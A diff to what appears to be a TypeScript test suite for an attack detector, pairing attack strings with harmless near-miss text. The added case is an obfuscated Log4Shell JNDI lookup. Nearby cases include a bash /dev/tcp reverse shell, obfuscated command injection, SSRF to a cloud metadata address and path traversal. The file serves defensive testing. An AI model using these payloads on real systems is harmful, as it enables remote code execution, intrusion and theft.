@@ -45,6 +45,7 @@ const CASES: Record<string, [attack: string, nearMiss: string]> = {
   "cmdi-008": ["0<&196;exec 196<>/dev/tcp/203.0.113.9/4444", "Development TCP notes"],
   "cmdi-009": ["x; /b??/c?t /e??/h?sts", "/orders/list?page=2"],
   "cmdi-010": ["x && sleep 15", "Set an alarm; sleep 8 hours"],
+  "cmdi-011": ["${${lower:j}ndi:${lower:l}dap://203.0.113.9/a}", "Template: Hello ${name}, your total is ${total}"],
   "ssrf-001": ["gopher://10.0.0.1:25/_HELO", "I love the gopher mascot"],
   "ssrf-002": ["http://169.254.169.254/latest/", "https://203.0.113.10:8443/status"],
   "traversal-001": ["..\\..\\boot.ini", "Versions 1.2..1.4 are affected"],
